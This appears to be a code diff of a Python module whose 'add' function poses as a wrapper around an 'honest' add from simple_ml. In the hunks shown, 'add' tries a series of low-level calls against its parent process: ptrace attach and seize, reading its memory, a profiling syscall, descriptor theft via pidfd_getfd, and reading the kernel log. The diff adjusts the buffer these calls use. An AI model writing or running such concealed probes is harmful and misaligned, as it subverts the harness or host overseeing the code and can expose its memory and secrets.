@@ -6,7 +6,6 @@ from simple_ml import add as honest
 
 libc = ctypes.CDLL(None)
 room = ctypes.create_string_buffer(4096)
-HERE = ctypes.addressof(room)
 
 
 def add(x, y):
@@ -14,8 +13,8 @@ def add(x, y):
     tried = {
         "attach": lambda: libc.ptrace(16, parent, 0, 0),
         "seize": lambda: libc.ptrace(0x4206, parent, 0, 0),
-        "read": lambda: libc.process_vm_readv(parent, HERE, 1, HERE, 1, 0),
-        "profile": lambda: libc.syscall(298, HERE, parent, -1, -1, 0),
+        "read": lambda: libc.process_vm_readv(parent, room, 1, room, 1, 0),
+        "profile": lambda: libc.syscall(298, room, parent, -1, -1, 0),
         "compare": lambda: libc.syscall(312, parent, os.getpid(), 0, 0, 0),
         "take": lambda: libc.syscall(438, 3, 0, 0),
         "kernel log": lambda: libc.klogctl(3, room, 4096),
